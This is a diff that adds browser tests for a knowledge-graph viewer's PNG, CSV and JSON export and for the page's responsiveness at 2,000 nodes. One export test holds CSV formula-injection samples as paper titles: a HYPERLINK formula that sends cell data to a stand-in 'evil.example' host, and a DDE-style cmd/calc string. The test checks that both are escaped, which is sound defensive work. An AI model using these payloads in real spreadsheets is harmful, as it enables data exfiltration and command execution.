@@ -2,9 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import functools
+import io
 import json
 import os
 import re
+import struct
+import zlib
 from pathlib import Path
 
 import networkx as nx
@@ -917,3 +922,335 @@ def test_page_details_cap_the_papers_listed_and_say_how_many_more(seeds_graph):
     d = page_details(seeds_graph, seeds_graph.nodes)[top]
     assert d["mention_count"] > MAX_PAPERS and len(d["papers"]) == MAX_PAPERS
     assert d["papers_more"] == d["mention_count"] - MAX_PAPERS
+
+
+# ---------------------------------------------------------------- export: PNG, CSV and JSON of the view
+
+PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
+
+
+def _download(page: Page, what: str, tmp_path: Path) -> tuple[str, bytes]:
+    """Click an export button; the file the browser saved, and its suggested name."""
+    with page.page.expect_download() as info:
+        page.page.locator(f"#kg-export-{what}").click()
+    download = info.value
+    assert download.failure() is None, download.failure()
+    path = tmp_path / f"{what}-{download.suggested_filename}"
+    download.save_as(path)
+    return download.suggested_filename, path.read_bytes()
+
+
+def _png_rows(data: bytes, first: int) -> tuple[int, int, list[bytes]]:
+    """Width, height and the first `first` rows (RGBA bytes) of an 8-bit RGBA PNG, filters undone."""
+    assert data[:8] == PNG_MAGIC
+    length, kind = struct.unpack(">I4s", data[8:16])
+    assert (length, kind) == (13, b"IHDR")
+    width, height, depth, colour, _, _, interlace = struct.unpack(">IIBBBBB", data[16:29])
+    assert (depth, colour, interlace) == (8, 6, 0)  # what a canvas encodes: RGBA, 8 bits, not interlaced
+    idat, at = b"", 8
+    while at < len(data):
+        length, kind = struct.unpack(">I4s", data[at : at + 8])
+        if kind == b"IDAT":
+            idat += data[at + 8 : at + 8 + length]
+        at += 12 + length
+    raw, stride, rows = zlib.decompress(idat), width * 4, []
+    prev = bytes(stride)
+    for y in range(min(first, height)):
+        kind, line = raw[y * (stride + 1)], bytearray(raw[y * (stride + 1) + 1 : (y + 1) * (stride + 1)])
+        for i in range(stride):
+            a = line[i - 4] if i >= 4 else 0
+            b, c = prev[i], prev[i - 4] if i >= 4 else 0
+            if kind == 1:
+                line[i] = (line[i] + a) & 255
+            elif kind == 2:
+                line[i] = (line[i] + b) & 255
+            elif kind == 3:
+                line[i] = (line[i] + (a + b) // 2) & 255
+            elif kind == 4:
+                p = a + b - c
+                pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
+                line[i] = (line[i] + (a if pa <= pb and pa <= pc else b if pb <= pc else c)) & 255
+        rows.append(bytes(line))
+        prev = line
+    return width, height, rows
+
+
+def _csv_rows(data: bytes) -> list[dict[str, str]]:
+    text = data.decode("utf-8")
+    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")  # RFC 4180 line ends
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def _in_view(page: Page) -> list[str]:
+    return page.page.evaluate("() => window.kgViz.nodes.get().filter(n => !n.hidden).map(n => n.id)")
+
+
+@pytest.mark.browser
+def test_browser_export_png_is_the_drawing_on_a_white_background(browser, viewer_graph, tmp_path):
+    page, _ = _viewer_page(browser, viewer_graph, tmp_path)
+    name, data = _download(page, "png", tmp_path)
+    canvas = page.page.evaluate("() => ['width', 'height'].map(k => document.querySelector('#mynetwork canvas')[k])")
+    width, height, rows = _png_rows(data, 8)
+    assert name == "kg-view.png" and [width, height] == canvas and width > 500 and height > 300
+    assert len(data) > 10_000  # the drawing, not a blank image
+    assert all(row[3::4] == b"\xff" * width for row in rows)  # opaque: the background painted behind
+    assert rows[0][:4] == b"\xff\xff\xff\xff"  # white, like the page
+    _no_trouble(page)
+
+
+@pytest.mark.browser
+def test_browser_export_csv_and_json_hold_the_nodes_in_view(browser, viewer_graph, tmp_path):
+    """What a type toggle or a hop view hides is left out; what a focus only fades is kept."""
+    from kg.viz.selection import neighbours
+
+    page, report = _viewer_page(browser, viewer_graph, tmp_path)
+    g = viewer_graph
+    hardware = {n for n, d in g.nodes(data=True) if d.get("type") == "Hardware"}
+    page.page.locator('#kg-legend input[value="Hardware"]').uncheck()
+    visible = set(g) - hardware
+    assert set(_in_view(page)) == visible
+    name, data = _download(page, "csv", tmp_path)
+    rows = _csv_rows(data)
+    assert name == "kg-view.csv" and list(rows[0]) == ["key", "kind", "name", "mentions", "degree", "arxiv_id", "url"]
+    assert len(rows) == len(visible) == report.nodes - len(hardware)
+    assert {r["key"] for r in rows} == visible and not {r["kind"] for r in rows} & {"Hardware"}
+    by_key = {r["key"]: r for r in rows}
+    llama, paper = by_key[entity_key("llama")], by_key[paper_key("2402.00001")]
+    assert (llama["kind"], llama["name"], llama["mentions"], llama["degree"]) == ("Model", "LLaMA", "2", "2")
+    assert (llama["arxiv_id"], llama["url"]) == ("", "")
+    assert (paper["kind"], paper["name"], paper["mentions"]) == ("Paper", "Réglage fin à Zürich: LoRA for LLaMA", "")
+    assert paper["degree"] == str(len(neighbours(g, paper_key("2402.00001"))))
+    assert (paper["arxiv_id"], paper["url"]) == ("2402.00001", "https://arxiv.org/abs/2402.00001")
+    name, data = _download(page, "json", tmp_path)
+    doc = json.loads(data)
+    assert name == "kg-view.json" and doc["view"].startswith("whole graph:")
+    assert [n["key"] for n in doc["nodes"]] == [r["key"] for r in rows]
+    assert doc["nodes"][[n["key"] for n in doc["nodes"]].index(entity_key("llama"))]["mentions"] == 2
+    expected = {(u, k, v) for u, v, k in g.edges(keys=True) if u in visible and v in visible}
+    got = [(r["source"], r["type"], r["target"]) for r in doc["relationships"]]
+    assert len(got) == len(expected) and set(got) == expected
+    # a focus fades the rest but hides nothing: the same rows
+    _click_node(page, entity_key("llama"))
+    assert len(_state(page)["faded"]) > 0
+    assert _csv_rows(_download(page, "csv", tmp_path)[1]) == rows
+    # only one hop around LLaMA: its neighbours that are not Hardware, and the relationships among them
+    page.page.locator("#kg-details button[data-hops='1']").click()
+    near = _near(g, entity_key("llama")) - hardware
+    assert {r["key"] for r in _csv_rows(_download(page, "csv", tmp_path)[1])} == near
+    doc = json.loads(_download(page, "json", tmp_path)[1])
+    assert {n["key"] for n in doc["nodes"]} == near
+    assert {(r["source"], r["type"], r["target"]) for r in doc["relationships"]} == {
+        (u, k, v) for u, v, k in g.edges(keys=True) if u in near and v in near
+    }
+    _no_trouble(page)
+
+
+@pytest.mark.browser
+def test_browser_export_csv_keeps_hostile_titles_as_text(browser, xss_graph, tmp_path):
+    page, report = _viewer_page(browser, xss_graph, tmp_path)
+    name, data = _download(page, "csv", tmp_path)
+    rows = _csv_rows(data)
+    assert len(rows) == report.nodes
+    titles = {r["key"]: r["name"] for r in rows if r["kind"] == "Paper"}
+    formula = '=HYPERLINK("https://evil.example/?"&A1, "Click, ""here""")'
+    at_sign = "@SUM(1+1) -cmd|' /C calc'!A0"
+    assert titles[graph_paper_node(xss_graph, XSS)] == XSS
+    bold = next(n for n in xss_graph if xss_graph.nodes[n].get("title", "").startswith("Scaling <b>"))
+    assert titles[bold] == xss_graph.nodes[bold]["title"]  # <b> and "quotes" as they were
+    assert titles[graph_paper_node(xss_graph, "2401.00005")] == "'" + formula  # guarded: a text cell
+    assert titles[graph_paper_node(xss_graph, "2401.00006")] == "'" + at_sign
+    assert all(not r[c].startswith(("=", "+", "-", "@")) for r in rows for c in r)
+    text = data.decode("utf-8")
+    assert ',"' + ("'" + formula).replace('"', '""') + '",' in text  # quoted: it holds commas and quotes
+    assert ',"Scaling <b>Mixture-of-Experts</b> on H100 ""clusters""",' in text
+    assert f",{XSS}," in text  # nothing to quote: left bare
+    # the cell rule itself, on what no title can hold (titles are squashed to one line)
+    cells = page.page.evaluate("""() => ['a\\r\\nb', 'a\\nb', '-1', '+x', '\\tx', 'plain', 7, null].map(
+        v => window.kgViz.csvCell(v))""")
+    assert cells == ['"a\r\nb"', '"a\nb"', "'-1", "'+x", "'\tx", "plain", "7", ""]
+    _no_trouble(page)
+
+
+# ---------------------------------------------------------------- a 2,000-node page: measured, not timed
+
+LATENCY_JS = """([name, target, start, watched, node]) => {
+    // From the start event (capture phase, on `target`) to the first change under `watched` that shows the
+    // result (`node`: the panel names it; otherwise any change), then to the end of the next frame painted.
+    const t = document.querySelector(target), w = document.querySelector(watched);
+    let t0 = null;
+    t.addEventListener(start, () => { t0 = performance.now(); }, {capture: true, once: true});
+    window.__kgLatency = window.__kgLatency || {};
+    window.__kgLatency[name] = new Promise(resolve => {
+        const seen = new MutationObserver(() => {
+            if (t0 === null || (node && w.getAttribute('data-node') !== node)) { return; }
+            seen.disconnect();
+            const handled = performance.now() - t0;
+            requestAnimationFrame(() => setTimeout(() => resolve({
+                handled_ms: Math.round(handled * 10) / 10,
+                painted_ms: Math.round((performance.now() - t0) * 10) / 10,
+            }), 0));
+        });
+        seen.observe(w, {childList: true, subtree: true, attributes: true, characterData: true});
+    });
+}"""
+
+FRAMES_JS = """() => {
+    // Every animation frame's time until stopped: long frames are what a busy page shows as jank.
+    const times = [];
+    let running = true;
+    const tick = t => { times.push(t); if (running) { requestAnimationFrame(tick); } };
+    requestAnimationFrame(tick);
+    window.__kgStopFrames = () => { running = false; return times; };
+}"""
+
+ZOOM_PAN_JS = """() => new Promise(resolve => {
+    // In and out again, panning too: two animations of the view, 500 ms each at 60 frames a second (vis-network
+    // counts frames, not time: slow frames make them longer).
+    const net = window.kgViz.network, at = net.getViewPosition(), scale = net.getScale();
+    const go = (position, s, then) => {
+        net.once('animationFinished', then);
+        net.moveTo({position, scale: s, animation: {duration: 500, easingFunction: 'easeInOutQuad'}});
+    };
+    go({x: at.x + 300, y: at.y + 200}, scale * 2.5, () => go(at, scale, resolve));
+})"""
+
+
+def _latency(page: Page, name: str, target: str, start: str, watched: str, act, node: str | None = None) -> dict:
+    page.page.evaluate(LATENCY_JS, [name, target, start, watched, node])
+    act()
+    return page.page.evaluate(f"() => window.__kgLatency[{json.dumps(name)}]")
+
+
+def _frames(page: Page, act) -> dict:
+    """Frame intervals (ms) while `act` runs: count, median and 95th percentile."""
+    page.page.evaluate(FRAMES_JS)
+    act()
+    times = page.page.evaluate("() => window.__kgStopFrames()")
+    gaps = sorted(b - a for a, b in zip(times, times[1:]))
+    assert len(gaps) > 0, "no frame was drawn"
+    return {
+        "frames": len(gaps),
+        "span_ms": round(times[-1] - times[0]),
+        "median_ms": round(gaps[len(gaps) // 2], 1),
+        "p95_ms": round(gaps[min(len(gaps) - 1, int(len(gaps) * 0.95))], 1),
+        "max_ms": round(gaps[-1], 1),
+    }
+
+
+def _empty_spot(page: Page) -> tuple[float, float]:
+    """A point of the canvas with no node under it, near the middle (where a drag moves the view)."""
+    return tuple(
+        page.page.evaluate("""() => {
+        const net = window.kgViz.network, r = document.getElementById('mynetwork').getBoundingClientRect();
+        for (let d = 0; d < 400; d += 8) {
+            for (const [dx, dy] of [[d, 0], [-d, 0], [0, d], [0, -d], [d, d], [-d, -d]]) {
+                const x = r.width / 2 + dx, y = r.height / 2 + dy;
+                if (net.getNodeAt({x, y}) === undefined && net.getEdgeAt({x, y}) === undefined) {
+                    return [r.left + x, r.top + y];
+                }
+            }
+        }
+        return [r.left + 5, r.top + r.height - 5];
+    }""")
+    )
+
+
+def _synthetic_graph(papers: int = 1500, per_type: int = 100, seed: int = 20) -> nx.MultiDiGraph:
+    """`papers` papers and `per_type` entities of each of the five types: papers mention 1-4 entities, popular
+    ones most (Zipf-like, as in real listings), a fifth cite earlier papers, some entities are variants."""
+    import random
+
+    rnd = random.Random(seed)
+    g = nx.MultiDiGraph()
+    types = ["Method", "Model", "Dataset", "Hardware", "Framework"]
+    entities = [f"{t.lower()}-{i}" for t in types for i in range(per_type)]
+    for eid in entities:
+        t, i = eid.split("-")
+        _entity(g, eid, f"{t.title()} {i}", t.title(), aliases=[f"{t[:2].upper()}{i}"])
+    weights = [1 / (1 + i % per_type) for i in range(len(entities))]
+    for i in range(papers):
+        named = set(rnd.choices(entities, weights, k=rnd.randint(1, 4)))
+        title = f"Study {i}: " + " with ".join(g.nodes[entity_key(e)]["name"] for e in sorted(named))
+        _paper(g, f"s{i}", title, f"An abstract for study {i}.")
+        for e in named:
+            _rel(g, paper_key(f"s{i}"), entity_key(e), Rel.MENTIONS.value, count=1, surfaces=[e])
+        if i and rnd.random() < 0.2:
+            for j in rnd.sample(range(i), min(i, rnd.randint(1, 2))):
+                _rel(g, paper_key(f"s{i}"), paper_key(f"s{j}"), Rel.CITES.value, via=[])
+    for eid in rnd.sample(entities, 60):
+        t, i = eid.split("-")
+        if int(i):
+            _rel(g, entity_key(eid), entity_key(f"{t}-{rnd.randrange(int(i))}"), Rel.VARIANT_OF.value)
+    return g
+
+
+@pytest.mark.browser
+def test_browser_2000_nodes_stay_responsive(browser, tmp_path):
+    """A 2,000-node page: time to a frozen layout, frame times while the view moves and is dragged, and how long
+    a keystroke, a type toggle and a click take to show. Recorded in the artifacts (viz_metrics.json), never asserted
+    on (speed targets live in bench/): what is asserted is that it all happens."""
+    g = _synthetic_graph()
+    assert g.number_of_nodes() == 2000
+    out = tmp_path / "2000.html"
+    report = render(g, out, ViewOptions(max_nodes=5000))
+    assert report.cut is None and report.nodes == 2000
+    page = browser(out)
+    facts = page.wait_stable(timeout_ms=240_000)
+    _assert_clean(page, facts, report.nodes, report.edges)  # every node drawn, physics off
+    page.page.wait_for_function("() => window.kgViz.viewerReady === true")
+    assert page.page.evaluate("() => window.kgViz.network.physics.options.enabled") is False
+    idle = _frames(page, lambda: page.page.wait_for_timeout(500))  # what the machine gives a page doing nothing
+    zoom = _frames(page, lambda: page.page.evaluate(ZOOM_PAN_JS))
+    x, y = _empty_spot(page)
+    view = "() => Object.values(window.kgViz.network.getViewPosition()).map(Math.round)"
+    before = page.page.evaluate(view)
+
+    def drag():
+        page.page.mouse.move(x, y)
+        page.page.mouse.down()
+        for i in range(1, 41):
+            page.page.mouse.move(x + 6 * i, y + 3 * i)
+            page.page.wait_for_timeout(25)
+        page.page.mouse.up()
+
+    dragged = _frames(page, drag)
+    assert page.page.evaluate(view) != before  # the drag moved the view (not a node)
+    search = page.page.locator("#kg-search")
+    search.click()
+    keys = []
+    for ch in "model 7":  # the first keystroke matches the most names
+        press = functools.partial(page.page.keyboard.press, ch)
+        keys.append(_latency(page, "key", "#kg-search", "keydown", "#kg-hits", press))
+    hits = _state(page)["hits"]
+    assert hits[0] == entity_key("model-7") and len(hits) == 12
+    page.page.keyboard.press("Escape")
+    toggle = _latency(
+        page,
+        "toggle",
+        '#kg-legend input[value="Paper"]',
+        "click",
+        "#kg-legend",
+        lambda: page.page.locator('#kg-legend input[value="Paper"]').uncheck(),
+    )
+    assert len(_state(page)["drawn"]) == 500  # the entities only
+    page.page.locator('#kg-legend input[value="Paper"]').check()
+    hub = entity_key("method-0")  # among the most mentioned: a long panel, and a fade of nearly every node
+    page.page.evaluate("() => window.kgViz.network.fit({animation: false})")  # back in view after the drag
+    click = _latency(page, "click", "#mynetwork", "pointerup", "#kg-details", lambda: _click_node(page, hub), hub)
+    assert _state(page)["panel_title"] == "Method 0"
+    _no_trouble(page)
+    _record(
+        "2000",
+        {
+            "nodes": facts["drawn_nodes"],
+            "edges": facts["drawn_edges"],
+            "stabilize_ms": facts["stabilize_ms"],
+            "iterations": facts["iterations"],
+            "idle_frames": idle,
+            "zoom_pan_frames": zoom,
+            "drag_frames": dragged,
+            "search_keystrokes": keys,
+            "toggle_papers": toggle,
+            "click_to_panel": click,
+        },
+    )
